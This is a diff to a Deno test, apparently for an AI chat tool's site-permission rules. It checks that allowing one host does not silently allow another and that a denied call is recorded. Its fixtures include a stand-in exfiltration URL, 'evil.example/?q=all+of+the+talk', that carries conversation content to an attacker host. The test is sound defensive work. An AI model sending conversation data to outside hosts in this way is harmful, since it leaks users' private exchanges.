@@ -10,6 +10,7 @@ import { inWorld, ROOM, Room, type World } from "./world.ts";
 
 const ANN = { kind: "user" as const, id: "ann", name: "Ann" };
 const HOME = "https://home.example/";
+const ELSE = "https://else.example/";
 const LEAK = "https://evil.example/?q=all+of+the+talk";
 
 /** Reads made-up pages, and writes down what was sent to whom. */
@@ -104,12 +105,15 @@ Deno.test("S4-33 a site that is allowed is free for this conversation, for every
   const { tool, sent } = reader();
   const more = ["https://evil.example/more", "https://evil.example:8443/", "https://sub.evil.example/"];
   return inWorld(
-    { scripts: reads([LEAK, "https://evil.example/2"], more), tools: [tool] },
+    { scripts: reads([LEAK, "https://evil.example/2", ELSE], more), tools: [tool] },
     async (world, room) => {
       await room.open(ADA);
       await room.post("Please look around.");
-      const [first] = await asking(world, room, 2);
+      const [first, , elsewhere] = await asking(world, room, 3);
       await say(room, first, { site: true });
+      const [left] = await asking(world, room, 1);
+      assert.equal(left?.use.address, ELSE, "another host waits on");
+      await say(room, elsewhere, { allowed: false });
       const others = await asking(world, room, 2);
       assert.deepEqual(others.map(({ use }) => use.address), more.slice(1));
       assert.deepEqual(new Set(sent), new Set([LEAK, "https://evil.example/2", more[0]]));
@@ -117,6 +121,7 @@ Deno.test("S4-33 a site that is allowed is free for this conversation, for every
       assert.deepEqual(decided.map((d) => [d.callId, d.allowed, d.site]), [
         ["call_0_0", true, "evil.example"],
         ["call_0_1", true, undefined],
+        ["call_0_2", false, undefined],
       ]);
       const [one, two] = (await room.events()).filter(({ type }) => type === "ToolDecided");
       assert.equal(one?.id.split("/")[0], two?.id.split("/")[0], "in one commit");
